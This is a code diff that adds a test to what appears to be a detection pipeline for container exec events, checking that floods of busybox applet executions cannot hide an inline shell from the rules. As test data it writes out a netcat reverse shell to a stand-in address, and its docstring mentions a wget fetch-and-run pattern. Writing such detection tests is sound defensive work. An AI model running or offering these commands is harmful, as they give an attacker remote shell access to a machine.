@@ -139,3 +139,27 @@ def test_a_busy_port_cannot_crowd_out_another_ports_accept(tmp_path: Path, fake_
     assert [a.port for a in v.accepts].count(4444) == 1
     assert [a.port for a in v.accepts].count(8080) == MAX_ACCEPTS_PER_PORT
     assert not v.overflows  # the clients' doing, not the service's flood
+
+
+def test_busybox_applets_cannot_crowd_out_an_inline_shell(tmp_path: Path, fake_docker) -> None:
+    """Review: every busybox applet is /bin/busybox, one share of 16 exec
+    views per window; 16 applets before `sh -c "$(wget ...)"` kept the
+    stage out of the rules' view. An interpreter running its command line
+    has a share of its own."""
+    from emulation.records import exec_args_rec, exec_rec
+
+    w = _world(tmp_path, fake_docker)
+    obs = _Views()
+    w.pipe.observers.append(obs)
+    gone = 2**22 + 100  # pids no process has: /proc says nothing, the records do
+    for i in range(40):
+        w.pipe.handle_raw(exec_args_rec(gone + i, w.cg, [b"cat", b"/etc/hostname"]))
+        w.pipe.handle_raw(exec_rec(gone + i, w.cg, 1000 + i, b"cat", b"/bin/busybox", ppid=7))
+    w.pipe.handle_raw(exec_args_rec(gone + 99, w.cg, [b"sh", b"-c", b"nc 203.0.113.9 4444 -e sh"]))
+    w.pipe.handle_raw(exec_rec(gone + 99, w.cg, 5000, b"sh", b"/bin/busybox", ppid=7))
+    w.pipe.close_window([], 0.0, 1.0)
+    v = obs.seen[-1]
+    assert [e.process.args for e in v.execs if e.process.pid == gone + 99] == [
+        ["sh", "-c", "nc 203.0.113.9 4444 -e sh"]
+    ]
+    assert sum(1 for e in v.execs if e.process.args == ["cat", "/etc/hostname"]) == 16
